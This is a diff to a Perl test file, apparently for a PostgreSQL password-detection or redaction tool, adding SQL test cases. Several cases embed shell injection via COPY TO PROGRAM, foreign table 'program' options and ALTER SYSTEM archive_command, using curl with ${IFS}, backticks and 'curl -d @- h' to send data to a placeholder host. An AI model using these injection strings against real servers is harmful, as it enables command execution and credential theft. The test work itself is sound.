@@ -354,6 +354,12 @@ foreach my $case (
 	q{COPY p TO PROGRAM 'PGPASSWORD=[[x]]$(curl${IFS}h) PGPASSWORD=`curl h` PGPASSWORD=[[x]]>h true'},
 	q{COPY p TO PROGRAM 'port=5 password=x; curl -d @- h'},
 	q{COPY p TO PROGRAM 'PGPASSWORD=[[x]]; curl -d @- h'},
+	q{COPY p TO PROGRAM 'true x://u:;curl${IFS}h;@h x://h?token=[[x]]|curl${IFS}h'},
+	q{CREATE FOREIGN TABLE f () SERVER s OPTIONS ("program" 'port=5 password=x;curl${IFS}h')},
+	q{CREATE FOREIGN TABLE f () SERVER s OPTIONS (U&"pro\0067ram" 'port=5 password=x;curl${IFS}h')},
+	q{ALTER SYSTEM SET archive_command = 'port=5 password=x;curl${IFS}h'},
+	q{ALTER SYSTEM SET "Archive_Command" TO 'x://u:`curl${IFS}h`;curl${IFS}h@h'},
+	q{ALTER SYSTEM SET primary_conninfo = 'port=5 password=[[x;y]]'},
 	# data
 	q{SELECT begin, alter, role, '1' FROM (SELECT 1 AS begin, 2 AS alter, 3 AS role) s /* password */},
 	q{SELECT CASE WHEN true THEN alter || role END FROM p WHERE ssn LIKE '123%' /* password */},
